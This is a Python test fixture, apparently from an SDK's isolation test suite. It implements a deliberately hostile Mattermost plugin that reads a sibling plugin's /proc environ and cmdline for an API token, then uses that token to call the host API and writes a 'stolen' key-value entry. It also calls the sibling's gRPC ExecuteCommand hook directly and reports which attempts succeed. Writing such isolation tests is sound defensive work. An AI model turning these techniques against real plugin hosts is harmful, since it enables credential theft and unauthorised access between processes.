"""A hostile SDK plugin for the isolation tests. Its ExecuteCommand "/attack <victim pid> <socket base dir>"
does what a plugin running as the host's OS user can try against a sibling plugin, and answers with a JSON
report of what worked:

* read the sibling's /proc/<pid>/environ and /proc/<pid>/cmdline, and look there for an API token;
* call the host API (KVSet, GetServerVersion) on the sibling's API socket, with the token it found, else
  with its own;
* dial the sibling's own gRPC socket and call its ExecuteCommand hook directly, without the host.

Run as root, it drops every capability at import, to stand in for an ordinary same-user process (root's
CAP_SYS_PTRACE would open any /proc file whatever the target's settings); the victim does the same
(fixture.json "drop_capabilities"), since a process without capabilities may not look into one with them.
"""

import ctypes
import glob
import json
import os

import grpc

from mattermost_plugin import HookName, Plugin, hook
from mattermost_plugin._internal import bootstrap


def drop_capabilities() -> str:
    if os.geteuid() != 0:
        return "not root"

    class Header(ctypes.Structure):
        _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]

    class Data(ctypes.Structure):
        _fields_ = [("effective", ctypes.c_uint32), ("permitted", ctypes.c_uint32), ("inheritable", ctypes.c_uint32)]

    libc = ctypes.CDLL(None, use_errno=True)
    header = Header(0x20080522, 0)  # _LINUX_CAPABILITY_VERSION_3, this thread: at import, the only one
    data = (Data * 2)()
    if libc.capset(ctypes.byref(header), data) != 0:
        return "capset failed: errno %d" % ctypes.get_errno()
    return "dropped"


CAPABILITIES = drop_capabilities()


def read_proc(pid: int, name: str) -> tuple[str, bytes]:
    try:
        with open(f"/proc/{pid}/{name}", "rb") as f:
            data = f.read()
        return f"read {len(data)} bytes", data
    except OSError as e:
        return f"refused: {type(e).__name__}: {e.strerror}", b""


def variables(environ: bytes) -> dict:
    pairs = (entry.split(b"=", 1) for entry in environ.split(b"\0") if b"=" in entry)
    return {k.decode(errors="replace"): v.decode(errors="replace") for k, v in pairs}


def attempt(call) -> str:
    try:
        return "allowed: " + str(call())
    except Exception as e:  # noqa: BLE001 - every failure is a refusal worth reporting
        return f"refused: {type(e).__name__}: {str(e)[:300]}"


class Attacker(Plugin):
    @hook(HookName.ExecuteCommand)
    def execute_command(self, context, args):
        _, pid_text, base = args.command.split()
        victim = int(pid_text)
        report = {"capabilities": CAPABILITIES}
        report["environ"], environ = read_proc(victim, "environ")
        report["cmdline"], cmdline = read_proc(victim, "cmdline")
        found = variables(environ)
        token = found.get("MATTERMOST_PLUGIN_API_TOKEN", "")
        report["token_in_environ"] = bool(token)
        report["token_in_cmdline"] = b"TOKEN" in cmdline.upper()
        own_dir = os.environ["PLUGIN_UNIX_SOCKET_DIR"]
        own_token = bootstrap.received().get("api_token", "")
        report["used_token"] = "the sibling's" if token else "its own"
        targets = [found["MATTERMOST_PLUGIN_API_TARGET"]] if "MATTERMOST_PLUGIN_API_TARGET" in found else [
            "unix://" + p for p in glob.glob(os.path.join(base, "pyp-*", "api.sock"))
            if os.path.dirname(p) != own_dir]
        report["api"] = {}
        from mattermost_plugin.client import PluginAPIClient

        for target in targets:
            client = PluginAPIClient(target, plugin_id="", token=token or own_token, timeout=10)
            report["api"][target] = [
                attempt(lambda: client.kv_set("stolen", b"written by the attacker")),
                attempt(client.get_server_version),
            ]
        report["hooks"] = {}
        from mattermost_plugin._proto.mattermost.pluginapi.v1 import hooks_command_pb2

        sockets = [p for p in glob.glob(os.path.join(base, "pyp-*", "plugin*")) if os.path.dirname(p) != own_dir]
        for path in sockets:
            channel = grpc.insecure_channel("unix:" + path)
            call = channel.unary_unary("/mattermost.pluginapi.v1.PluginHooks/ExecuteCommand",
                                       request_serializer=hooks_command_pb2.ExecuteCommandRequest.SerializeToString,
                                       response_deserializer=hooks_command_pb2.ExecuteCommandResponse.FromString)
            request = hooks_command_pb2.ExecuteCommandRequest()
            request.args.command = "/run-as-the-victim"
            report["hooks"][path] = attempt(lambda: call(request, timeout=10).response.text)
            channel.close()
        return {"text": json.dumps(report)}


if __name__ == "__main__":
    from mattermost_plugin.server import run_plugin

    run_plugin(Attacker)
